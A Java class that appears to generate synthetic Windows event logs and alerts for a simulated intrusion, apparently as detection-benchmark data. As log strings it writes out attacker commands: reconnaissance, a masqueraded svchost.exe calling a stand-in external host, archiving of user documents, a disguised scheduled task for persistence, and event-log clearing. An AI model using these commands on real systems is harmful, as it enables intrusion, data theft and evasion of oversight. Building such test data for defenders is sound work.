package spoor.bench.samples;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import spoor.bench.samples.WindowsLog.Account;
import spoor.bench.samples.WindowsLog.Logon;
import spoor.bench.samples.WindowsLog.Started;

/// Somebody who guessed the password of the backup's account: over remote desktop, from a host that
/// scanned ports two days before. Looks around, brings two programs under names of Windows' own,
/// packs documents, stays by a task, clears a log. No line of it does harm if it is run.
final class Intruder {
    private static final String SYSTEM32 = "C:\\Windows\\System32\\";
    private static final String LIBRARIES = "C:\\Users\\Public\\Libraries\\";
    private static final String FROM = "10.20.30.66";
    private static final Instant LOGON = Instant.parse("2026-09-16T10:41:09.120Z");

    private final WindowsLog log;
    private final Started winlogon;
    private final StringBuilder alerts =
            new StringBuilder(
                    "TimeGenerated,StartTime,EndTime,SystemAlertId,AlertName,DisplayName,"
                            + "AlertSeverity,Description,ProviderName,VendorName,CompromisedEntity,"
                            + "Tactics,Entities\n");
    private int alertCount;

    Intruder(WindowsLog log, Started winlogon) {
        this.log = log;
        this.winlogon = winlogon;
    }

    void act() {
        for (int guess = 0; guess < 6; guess++) {
            log.logon(
                    after(-170 + 11.7 * guess),
                    new Logon(backup("0x0"), 3, "NTLM", "KIOSK-2", FROM, "0xc000006d"));
        }
        log.logon(after(-2.3), new Logon(backup("0x9d3f02"), 3, "NTLM", "KIOSK-2", FROM, ""));
        Account account = backup("0x9d41c7");
        log.logon(LOGON, new Logon(account, 10, "Negotiate", "FIN-WS07", FROM, ""));
        alert(
                after(4),
                "Sign-in to a host that the account does not use",
                "Low",
                "MAIL01",
                "InitialAccess",
                host("MAIL01"));
        Started explorer = log.keep(WindowsHost.session(log, LOGON, account, winlogon));
        Started shell =
                log.keep(
                        log.start(
                                after(31),
                                account,
                                explorer,
                                SYSTEM32 + "cmd.exe",
                                "\"C:\\Windows\\system32\\cmd.exe\""));
        log.start(
                after(31.02),
                account,
                shell,
                SYSTEM32 + "conhost.exe",
                "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
        lookAround(account, shell);
        Started tool = bringTools(account, shell);
        pack(account, tool);
        stay(account, shell);
    }

    byte[] alerts() {
        return alerts.toString().getBytes(StandardCharsets.UTF_8);
    }

    private void lookAround(Account account, Started shell) {
        double second = 44;
        for (String command :
                List.of(
                        "whoami /all",
                        "HOSTNAME",
                        "quser",
                        "ipconfig /all",
                        "ARP -a",
                        "tasklist /v",
                        "systeminfo",
                        "nltest /dclist:corp.example.com")) {
            command(after(second), account, shell, command);
            second += 5.4;
        }
        for (String command :
                List.of("localgroup administrators", "group \"domain admins\" /domain", "view")) {
            Started net = command(after(second), account, shell, "net " + command);
            log.start(
                    after(second + 0.04),
                    account,
                    net,
                    SYSTEM32 + "net1.exe",
                    "C:\\Windows\\system32\\net1 " + command);
            second += 6.1;
        }
        for (int host = 2; host <= 13; host++) {
            command(after(second), account, shell, "ping -n 1 -w 200 10.20.30." + host);
            second += 1.2;
        }
        String script = "Get-ChildItem \\\\files\\finance -Recurse | Measure-Object Length -Sum";
        Started shellOf =
                log.start(
                        after(150),
                        account,
                        shell,
                        SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                        "powershell -NonInteractive -EncodedCommand "
                                + Base64.getEncoder()
                                        .encodeToString(
                                                script.getBytes(StandardCharsets.UTF_16LE)));
        alert(
                after(150),
                "Encoded command line",
                "Medium",
                WindowsLog.COMPUTER,
                "Execution",
                session(after(150), account, shellOf, "powershell.exe"));
    }

    private Started bringTools(Account account, Started shell) {
        Started tool =
                log.keep(
                        log.start(
                                after(322),
                                account,
                                shell,
                                LIBRARIES + "svchost.exe",
                                "svchost.exe -s 203.0.113.9:443 -i 300"));
        alert(
                after(322),
                "Executable running from a suspicious location",
                "High",
                WindowsLog.COMPUTER,
                "DefenseEvasion",
                session(after(322), account, tool, "svchost.exe"));
        log.start(
                after(371),
                account,
                tool,
                "C:\\Windows\\Fonts\\lsass.exe",
                "C:\\Windows\\Fonts\\lsass.exe -p 4444");
        return tool;
    }

    private void pack(Account account, Started tool) {
        Started list =
                log.start(
                        after(402),
                        account,
                        tool,
                        SYSTEM32 + "cmd.exe",
                        "cmd /c \"dir /s /b C:\\Users\\k.olsen\\Documents > "
                                + LIBRARIES
                                + "a.txt\"");
        log.start(
                after(402.02),
                account,
                list,
                SYSTEM32 + "conhost.exe",
                "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
        for (int part = 1; part <= 3; part++) {
            log.start(
                    after(430 + 63 * part),
                    account,
                    tool,
                    LIBRARIES + "7z.exe",
                    "7z.exe a -v50m "
                            + LIBRARIES
                            + part
                            + ".dat C:\\Users\\k.olsen\\Documents\\"
                            + (2023 + part));
        }
    }

    private void stay(Account account, Started shell) {
        command(
                after(711),
                account,
                shell,
                "schtasks /create /sc onlogon /tn \"OneDrive Standalone Update\" /tr "
                        + LIBRARIES
                        + "svchost.exe");
        Started clear = command(after(760), account, shell, "wevtutil cl \"Windows PowerShell\"");
        alert(
                after(760),
                "An event log was cleared",
                "Medium",
                WindowsLog.COMPUTER,
                "DefenseEvasion",
                session(after(760), account, clear, "wevtutil.exe"));
        command(after(790), account, shell, "logoff");
    }

    private Started command(Instant time, Account account, Started shell, String command) {
        String program = command.split(" ")[0];
        return log.start(time, account, shell, SYSTEM32 + program + ".exe", command);
    }

    private static Account backup(String logonId) {
        return WindowsHost.account("svc-backup", 1121, logonId);
    }

    private static Instant after(double seconds) {
        return LOGON.plus(Duration.ofMillis(Math.round(seconds * 1_000)));
    }

    private void alert(
            Instant time,
            String name,
            String severity,
            String computer,
            String tactic,
            String entities) {
        alertCount++;
        alerts.append(
                WindowsLog.csv(
                        time.plusSeconds(49).toString(),
                        time.toString(),
                        time.toString(),
                        "c0ffee00-0000-4000-8000-00000000000" + alertCount,
                        name,
                        name,
                        severity,
                        name + " on " + computer + '.',
                        "Fjord Endpoint",
                        "Fjord",
                        computer,
                        tactic,
                        entities));
        alerts.append('\n');
    }

    private static String host(String name) {
        return """
        [{"$id":"1","HostName":"%s","OSFamily":"Windows","Type":"host"}]\
        """
                .formatted(name);
    }

    private static String session(Instant time, Account account, Started process, String fileName) {
        return """
        [{"$id":"1","HostName":"%s","OSFamily":"Windows","Type":"host"},\
        {"$id":"2","Name":"%s","NTDomain":"%s","Sid":"%s","LogonId":"%s","Host":{"$ref":"1"},\
        "Type":"account"},\
        {"$id":"3","Name":"%s","Type":"file"},\
        {"$id":"4","ProcessId":"%s","CreationTimeUtc":"%s","ImageFile":{"$ref":"3"},\
        "Account":{"$ref":"2"},"Host":{"$ref":"1"},"Type":"process"},\
        {"$id":"5","SessionId":"%s","StartTimeUtc":"%s","Host":{"$ref":"1"},\
        "Account":{"$ref":"2"},"Type":"host-logon-session"}]\
        """
                .formatted(
                        WindowsLog.COMPUTER,
                        account.user(),
                        account.domain(),
                        account.sid(),
                        account.logonId(),
                        fileName,
                        process.id(),
                        time,
                        account.logonId(),
                        time);
    }
}
